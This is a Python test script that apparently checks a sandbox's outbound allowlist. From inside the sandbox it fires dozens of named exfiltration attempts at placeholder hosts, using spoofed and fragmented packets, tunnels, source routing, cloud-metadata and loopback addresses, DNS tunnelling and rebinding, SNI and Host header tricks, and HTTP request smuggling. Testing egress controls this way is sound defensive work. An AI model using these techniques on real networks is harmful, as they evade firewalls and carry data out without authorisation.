# What an attacker inside would try. Each attempt carries its own name, so that the
# test can tell from what the outside sees which of them got out. The arguments are
# the attempts to make; an address that nothing allows is BAD, one that has an
# allowed name GOOD.
import socket, ssl, struct, sys, threading, time

BAD4, BAD6 = "203.0.113.66", "2001:db8::66"
GOOD4, GOOD6 = "203.0.113.7", "2001:db8::7"
SELF4, SELF6 = "192.0.0.2", "fd62:6572:7468::2"
SPOOFED4 = "198.18.7.7"
own = threading.local()  # the identification of an attempt's packets


def p4(a): return socket.inet_pton(socket.AF_INET, a)
def p6(a): return socket.inet_pton(socket.AF_INET6, a)


def checksum(b):
    if len(b) % 2: b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ip4(proto, payload, dst, src=SELF4, options=b"", fragment=0):
    def head(c):
        first = struct.pack("!BBHHHBBH", 0x40 | (20 + len(options)) // 4, 0, 20 + len(options) + len(payload), own.id, fragment, 64, proto, c)
        return first + p4(src) + p4(dst) + options
    return head(checksum(head(0))) + payload


def ip6(next, payload, dst, src=SELF6):
    return struct.pack("!IHBB", 6 << 28, len(payload), next, 64) + p6(src) + p6(dst) + payload


def udp(data, port, pseudo=b""):
    def d(c): return struct.pack("!HHHH", 4444, port, 8 + len(data), c) + data
    if not pseudo: return d(0)
    return d(checksum(pseudo + struct.pack("!IHBB", 8 + len(data), 0, 0, 17) + d(0)) or 0xffff)


def udp6(data, port, dst, src=SELF6): return udp(data, port, p6(src) + p6(dst))


def wire(packet):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
    s.sendto(packet, ("berth0", 0x86dd if packet[0] >> 4 == 6 else 0x0800))


def raw(family, proto, data, to):
    socket.socket(family, socket.SOCK_RAW, proto).sendto(data, (to, 0))


def tcp(to, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((to, port))
    s.send(data)
    s.recv(100)


def gram(to, port, data, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(0.2)
    for _ in range(2):
        s.sendto(data, (to, port))
        s.recv(100)


def ping(family, proto, kind, to, data):
    s = socket.socket(family, socket.SOCK_DGRAM, proto)
    s.settimeout(0.2)
    s.sendto(struct.pack("!BBHHH", kind, 0, 0, 1, 1) + data, (to, 0))
    s.recv(100)


def question(name, kind=1, extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0"
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 1 if extra else 0) + labels + struct.pack("!HH", kind, 1) + extra


def tls(to, name, resolve=""):
    if resolve: socket.getaddrinfo(resolve, 443)
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    c.wrap_socket(socket.create_connection((to, 443), 5), server_hostname=name)


def http(to, host, data):
    socket.getaddrinfo("good.example", 80)
    tcp(to, 80, b"GET / HTTP/1.1\r\nHost: " + host + b"\r\nX: " + data + b"\r\n\r\n")


def later(*parts, port=80):
    s = socket.create_connection((socket.gethostbyname("good.example"), port), 5)
    for part in parts:
        s.sendall(part)
        s.recv(100)


def get(host, more=b"", body=b""):
    return b"GET / HTTP/1.1\r\nHost: " + host + b"\r\n" + more + b"\r\n" + body


def h2(kind, flags, stream, body): return struct.pack("!IBI", len(body) << 8 | kind, flags, stream) + body


def authority(name): return b"\x82\x86\x84\x01" + bytes([len(name)]) + name  # RFC 7541 6.2.2


def hello(name):
    def vector(size, body): return len(body).to_bytes(size, "big") + body
    names = b"\0\0" + vector(2, vector(2, b"\0" + vector(2, name)))
    versions = b"\0\x2b" + vector(2, b"\2\3\4")
    body = b"\3\3" + bytes(32) + b"\0" + vector(2, b"\x13\1") + b"\1\0" + vector(2, names + versions)
    return b"\x16\3\1" + vector(2, b"\1" + vector(3, body))


GOOD = b"good.example"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2(4, 0, 0, b"")
V4, V6 = socket.AF_INET, socket.AF_INET6
more = 0x2000
opt = lambda code, data: struct.pack("!HH", code, len(data)) + data
edns = lambda data: b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(opt(65001, data))) + opt(65001, data)
lsrr = lambda kind: bytes([kind, 7, 4]) + p4(BAD4) + b"\0"

attempts = {
    # addresses that no rule names
    "tcp4": lambda m: tcp(BAD4, 443, m),
    "tcp6": lambda m: tcp(BAD6, 443, m, V6),
    "tcp-mapped": lambda m: tcp("::ffff:" + BAD4, 443, m, V6),
    "udp4": lambda m: gram(BAD4, 443, m),
    "udp6": lambda m: gram(BAD6, 443, m, V6),
    "udp-mapped": lambda m: gram("::ffff:" + BAD4, 443, m, V6),
    "quic-initial": lambda m: gram(BAD4, 443, b"\xc0\0\0\0\1\x08" + m[:8] + b"\0\0\x44\xb0" + m.ljust(1200, b"x")),
    "ping4": lambda m: ping(V4, socket.IPPROTO_ICMP, 8, BAD4, m),
    "ping6": lambda m: ping(V6, socket.IPPROTO_ICMPV6, 128, BAD6, m),
    # an allowed name's address by other ways
    "ping-good": lambda m: ping(V4, socket.IPPROTO_ICMP, 8, GOOD4, m),
    "sctp-good": lambda m: raw(V4, 132, struct.pack("!HHII", 1, 443, 0, 0) + m, GOOD4),
    "sctp6-good": lambda m: wire(ip6(132, struct.pack("!HHII", 1, 443, 0, 0) + m, GOOD6)),
    "dccp-good": lambda m: raw(V4, 33, struct.pack("!HH", 1, 443) + m, GOOD4),
    "gre-good": lambda m: raw(V4, 47, b"\0\0\x08\0" + m, GOOD4),
    "ipip-good": lambda m: raw(V4, 4, ip4(17, udp(m, 443), BAD4), GOOD4),
    "6in4-good": lambda m: raw(V4, 41, ip6(17, udp6(m, 443, BAD6), BAD6), GOOD4),
    "esp-good": lambda m: raw(V4, 50, m, GOOD4),
    "no-next-header": lambda m: wire(ip6(59, m, GOOD6)),
    "echo-reply": lambda m: raw(V4, 1, struct.pack("!BBHHH", 0, 0, checksum(b"\0\0\0\0\0\1\0\1" + m), 1, 1) + m, GOOD4),
    "icmp-timestamp": lambda m: raw(V4, 1, struct.pack("!BBHHH", 13, 0, checksum(b"\x0d\0\0\0\0\1\0\1" + m), 1, 1) + m, GOOD4),
    "icmp-error": lambda m: raw(V4, 1, struct.pack("!BBHI", 3, 3, checksum(b"\3\3\0\0\0\0\0\0" + ip4(17, udp(m, 9), GOOD4)), 0) + ip4(17, udp(m, 9), GOOD4), GOOD4),
    "port": lambda m: tcp(GOOD4, 8443, m),
    # packets that routers might take for something else
    "raw-udp": lambda m: wire(ip4(17, udp(m, 443), BAD4)),
    "raw-udp6": lambda m: wire(ip6(17, udp6(m, 443, BAD6), BAD6)),
    "spoofed": lambda m: wire(ip4(17, udp(m, 443), BAD4, src=SPOOFED4)),
    "spoofed-gateway": lambda m: wire(ip4(17, udp(m, 443), BAD4, src="192.0.0.1")),
    "loose-route": lambda m: wire(ip4(17, udp(m, 443), "192.0.0.1", options=lsrr(131))),
    "strict-route": lambda m: wire(ip4(17, udp(m, 443), "192.0.0.1", options=lsrr(137))),
    "loose-route-bad": lambda m: wire(ip4(17, udp(m, 443), BAD4, options=lsrr(131))),
    "routing-header-0": lambda m: wire(ip6(43, struct.pack("!BBBBI", 17, 2, 0, 1, 0) + p6(BAD6) + udp6(m, 443, BAD6), "fd62:6572:7468::1")),
    "destination-options": lambda m: wire(ip6(60, b"\x11\0\1\4\0\0\0\0" + udp6(m, 443, BAD6), BAD6)),
    "fragments": lambda m: [wire(ip4(17, part, BAD4, fragment=f)) for f, part in ((more, udp(m, 443)[:8]), (1, udp(m, 443)[8:]))],
    "fragments-late-first": lambda m: [wire(ip4(17, part, BAD4, fragment=f)) for f, part in ((1, udp(m, 443)[8:]), (more, udp(m, 443)[:8]))],
    "fragments-overlap": lambda m: [wire(ip4(17, part, BAD4, fragment=f)) for f, part in ((more, udp(m.ljust(48), 443)[:24]), (1, udp(m.ljust(48), 443)[8:]))],
    "fragment-alone": lambda m: wire(ip4(17, udp(m, 443), BAD4, fragment=more)),
    "fragments-icmp": lambda m: [wire(ip4(1, part, BAD4, fragment=f)) for f, part in ((more, b"\x08\0\0\0\0\0\0\0"), (1, m))],
    "fragments6": lambda m: [wire(ip6(44, struct.pack("!BBHI", 17, 0, off, own.id) + part, BAD6)) for off, part in ((1, udp6(m, 443, BAD6)[:8]), (8, udp6(m, 443, BAD6)[8:]))],
    # the outside's own loopback and links, from a stack that does not mind
    "loopback": lambda m: wire(ip4(17, udp(m, 443), "127.0.0.1")),
    "loopback-other": lambda m: wire(ip4(17, udp(m, 443), "127.9.9.9")),
    "loopback-source": lambda m: wire(ip4(17, udp(m, 443), "127.0.0.1", src="127.0.0.1")),
    "unspecified": lambda m: wire(ip4(17, udp(m, 443), "0.0.0.0")),
    "loopback6": lambda m: wire(ip6(17, udp6(m, 443, "::1"), "::1")),
    "unspecified6": lambda m: wire(ip6(17, udp6(m, 443, "::"), "::")),
    "mapped-on-wire": lambda m: wire(ip6(17, udp6(m, 443, "::ffff:127.0.0.1"), "::ffff:127.0.0.1")),
    "compatible": lambda m: wire(ip6(17, udp6(m, 443, "::127.0.0.1"), "::127.0.0.1")),
    "nat64": lambda m: wire(ip6(17, udp6(m, 443, "64:ff9b::7f00:1"), "64:ff9b::7f00:1")),
    "6to4": lambda m: wire(ip6(17, udp6(m, 443, "2002:7f00:1::1"), "2002:7f00:1::1")),
    "metadata": lambda m: gram("169.254.169.254", 80, m),
    "link-local": lambda m: wire(ip6(17, udp6(m, 443, "fe80::1"), "fe80::1")),
    "broadcast": lambda m: wire(ip4(17, udp(m, 443), "255.255.255.255")),
    "multicast": lambda m: wire(ip4(17, udp(m, 5353), "224.0.0.251")),
    "multicast6": lambda m: wire(ip6(17, udp6(m, 5353, "ff02::fb"), "ff02::fb")),
    "own-network": lambda m: gram("10.99.0.1", 443, m),
    "neighbor": lambda m: gram("10.99.0.2", 443, m),
    # names
    "dns-other": lambda m: gram(BAD4, 53, question(m + b".good.example")),
    "dns-real": lambda m: gram("203.0.113.53", 53, question(m + b".good.example")),
    "dns-real-tcp": lambda m: tcp("203.0.113.53", 53, struct.pack("!H", len(question(m))) + question(m)),
    "dns-below": lambda m: gram("192.0.0.1", 53, question(m + b".bad.example")),
    "dns-below-allowed": lambda m: gram("192.0.0.1", 53, question(m + b".good.example")),
    "dns-txt": lambda m: gram("192.0.0.1", 53, question(m + b".bad.example", 16)),
    "dns-option": lambda m: gram("192.0.0.1", 53, question(b"good.example", 1, edns(m))),
    "dns-trailer": lambda m: gram("192.0.0.1", 53, question(b"good.example") + m),
    "dns-update": lambda m: gram("192.0.0.1", 53, struct.pack("!HHHHHH", 7, 0x2800, 1, 0, 0, 0) + question(m + b".good.example")[12:]),
    "mdns": lambda m: gram("224.0.0.251", 5353, question(m + b".local")),
    "rebinding": lambda m: tcp(socket.gethostbyname("rebind.example"), 443, m),
    "sni-elsewhere": lambda m: tls(BAD4, "good.example"),
    "sni-other": lambda m: tls(GOOD4, m.decode() + ".example", "good.example"),
    "host-other": lambda m: http(GOOD4, m + b".example", m),
    "host-elsewhere": lambda m: http(BAD4, b"good.example", m),
    "host-twice": lambda m: http(GOOD4, b"good.example\r\nHost: " + m + b".example", m),
    "absolute": lambda m: tcp(socket.gethostbyname("good.example"), 80, b"GET http://" + m + b".example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
    "connect": lambda m: tcp(socket.gethostbyname("good.example"), 80, b"CONNECT " + m + b".example:443 HTTP/1.1\r\nHost: " + m + b".example:443\r\n\r\n"),
    # what comes later on a connection that began well
    "http-later": lambda m: later(get(GOOD), get(m + b".example")),
    "http-pipelined": lambda m: later(get(GOOD) + get(m + b".example")),
    "http-behind-body": lambda m: later(get(GOOD, b"Content-Length: 5\r\n", b"GET /"), get(m + b".example")),
    "http-behind-chunks": lambda m: later(get(GOOD, b"Transfer-Encoding: chunked\r\n", b"1\r\nx\r\n0\r\n\r\n") + get(m + b".example")),
    "http-both-lengths": lambda m: later(get(GOOD, b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\nX"), get(m + b".example")),
    "http-two-lengths": lambda m: later(get(GOOD, b"Content-Length: 0\r\nContent-Length: 500\r\n", get(m + b".example"))),
    "http-long-chunk": lambda m: later(get(GOOD, b"Transfer-Encoding: chunked\r\n", b"1;\nx\r\n0\r\n\r\n") + get(m + b".example")),
    "http-bare-newlines": lambda m: later(get(GOOD).replace(b"\r\n", b"\n") + get(m + b".example")),
    "http-old": lambda m: later(b"GET /\r\n" + get(m + b".example")),
    "http-upgrade": lambda m: later(get(GOOD, b"Connection: upgrade\r\nUpgrade: websocket\r\n"), get(m + b".example")),
    "http-long-method": lambda m: later(get(m + b".example").replace(b"GET", b"GET" * 20)),
    "absolute-later": lambda m: later(get(GOOD), b"GET http://" + m + b".example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
    "connect-later": lambda m: later(b"CONNECT good.example:80 HTTP/1.1\r\nHost: good.example:80\r\n\r\n", get(m + b".example")),
    "connect-tls": lambda m: later(b"CONNECT good.example:80 HTTP/1.1\r\nHost: good.example:80\r\n\r\n", hello(m + b".example")),
    "h2c": lambda m: later(PREFACE + h2(1, 5, 1, authority(m + b".example"))),
    "h2c-later": lambda m: later(PREFACE + h2(1, 5, 1, authority(GOOD)), h2(1, 5, 3, authority(m + b".example"))),
    "h2c-upgraded": lambda m: later(get(GOOD, b"Upgrade: h2c\r\n"), PREFACE + h2(1, 5, 3, authority(m + b".example"))),
    "tls-second-hello": lambda m: later(hello(GOOD), b"\x14\3\3\0\1\1" + hello(m + b".example"), port=443),
    "proxy": lambda m: tcp("192.0.0.3", 3128, b"CONNECT " + m + b".example:443 HTTP/1.1\r\nHost: " + m + b".example:443\r\n\r\n"),
    "proxy-get": lambda m: tcp("192.0.0.3", 3128, b"GET http://" + m + b".example/ HTTP/1.1\r\nHost: good.example\r\n\r\n"),
}


def attempt(name):
    own.id = 1 + list(attempts).index(name)
    try:
        attempts[name](b"SMUGGLED-" + name.encode())
    except Exception as e:
        sys.stdout.write("%s: %s\n" % (name, e))


names = sys.argv[1:] or [n for n in attempts if not n.startswith("proxy")]
running = [threading.Thread(target=attempt, args=[n]) for n in names]
for t in running: t.start()
for t in running: t.join()
time.sleep(0.2)  # so that what is on its way out when the last attempt is made gets there
